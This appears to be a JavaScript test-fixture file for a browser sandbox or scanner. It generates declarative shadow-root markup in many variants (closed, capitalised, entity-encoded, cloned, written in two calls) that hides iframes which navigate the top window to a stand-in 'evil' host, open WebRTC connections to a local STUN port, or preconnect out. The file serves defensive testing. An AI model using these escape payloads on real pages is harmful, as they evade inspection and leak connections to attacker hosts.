// Shadow trees that markup declares: what is in one is found with it, and a closed one can be looked into by nobody.
const quoted = (text) => `\${${text}.replaceAll("&", "&amp;").replaceAll('"', "&quot;")}`;
const FRAME = `<iframe sandbox='allow-scripts allow-top-navigation' srcdoc="${quoted('script(`top.location = "${evil}"`)')}"></iframe>`;
const PEER = "new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] })";
const SENDS = `(async () => {
    const c = ${PEER};
    c.createDataChannel("x");
    await c.setLocalDescription(await c.createOffer());
  })()`;
const WEBRTC = `<iframe srcdoc="${quoted(`script(\`${SENDS.replaceAll("`", "\\`").replaceAll("\\`stun:127.0.0.1:${port}\\`", "'stun:127.0.0.1:${port}'")}\`)`)}"></iframe>`;
const HINT = "<link rel=preconnect href='${evil}'>";

const tree = (mode, content, host = "div") =>
  `\`<${host}><template shadowrootmode=${mode}>${content}</template></${host}>\``;
const unsafe = (markup) => `({ evil, port, add, script }) => void add("div").setHTMLUnsafe(${markup})`;
const written = (markup) => `({ evil, port, add, script }) => {
  const f = add("iframe");
  const d = f.contentDocument;
  d.write(${markup});
  d.close();
}`;
const later = (statement) => `new Promise((resolve) => setTimeout(() => resolve(${statement})))`;
const top = (markup) => `({ evil, port, add, script }) => ${later(`document.write(${markup})`)}`;
const parsed = (markup) => `({ evil, port, script }) =>
  void document.body.append(document.adoptNode(Document.parseHTMLUnsafe(${markup}).body))`;

const both = (name, content, more = {}) =>
  ["open", "closed"].flatMap((mode) => [
    [`setHTMLUnsafe, ${mode}: ${name}`, { source: unsafe(tree(mode, content)), ...more }],
    [`a written document, ${mode}: ${name}`, { source: written(tree(mode, content)), ...more }],
    [`the page, written, ${mode}: ${name}`, { source: top(tree(mode, content)), ...more }],
    [`parseHTMLUnsafe, ${mode}: ${name}`, { source: parsed(tree(mode, content)), ...more }],
  ]);

export default {
  ...Object.fromEntries([
    ...both("a frame that leaves", FRAME),
    ...both("a frame with WebRTC", WEBRTC, { hit: "datagram" }),
  ]),
  "setHTMLUnsafe, open: a hint": { source: unsafe(tree("open", HINT)), hit: "connection" },
  "a tree in a tree": unsafe(tree("open", tree("open", FRAME).slice(1, -1))),
  "a tree in a tree's slot": unsafe(tree("open", `<slot></slot>${tree("open", FRAME, "p").slice(1, -1)}`)),
  "a mode with capitals": unsafe(tree("OPEN", FRAME).replace("shadowrootmode", "ShadowRootMode")),
  "a mode with a reference": unsafe(tree("&#111;pen", FRAME)),
  "a tree that is written in two calls": `({ evil, add, script }) => {
    const d = add("iframe").contentDocument;
    d.write("<div><template shadowroot");
    d.write(\`mode=open>${FRAME}</template></div>\`);
    d.close();
  }`,
  "a frame's setHTMLUnsafe": `({ evil, add, script }) =>
    void add("iframe").contentWindow.Element.prototype.setHTMLUnsafe.call(add("div"), ${tree("open", FRAME)})`,
  "a clone of a closed tree": `({ evil, add, script }) => {
    const host = document.createElement("div");
    host.attachShadow({ mode: "closed", clonable: true }).innerHTML = \`${FRAME}\`;
    document.body.append(host.cloneNode(true));
  }`,
  "a clone of a closed tree, by the options of a function": `({ evil, add, script }) => {
    const host = document.createElement("div");
    const options = Object.assign(() => {}, { mode: "closed", clonable: true });
    host.attachShadow(options).innerHTML = \`${FRAME}\`;
    document.body.append(host.cloneNode(true));
  }`,
  "a clone of an open tree": `({ evil, add, script }) => {
    const host = document.createElement("div");
    host.attachShadow({ mode: "open", clonable: true }).innerHTML = \`${FRAME}\`;
    document.body.append(document.importNode(host, true));
  }`,
  "a template with a host in it": `({ evil, add, script }) => {
    const template = document.createElement("template");
    template.setHTMLUnsafe(${tree("open shadowrootclonable", FRAME)});
    document.body.append(document.importNode(template.content, true));
  }`,
  "a srcdoc that declares one": `({ evil, add, script }) => void add("iframe", { srcdoc: ${tree("open", FRAME)} })`,
};
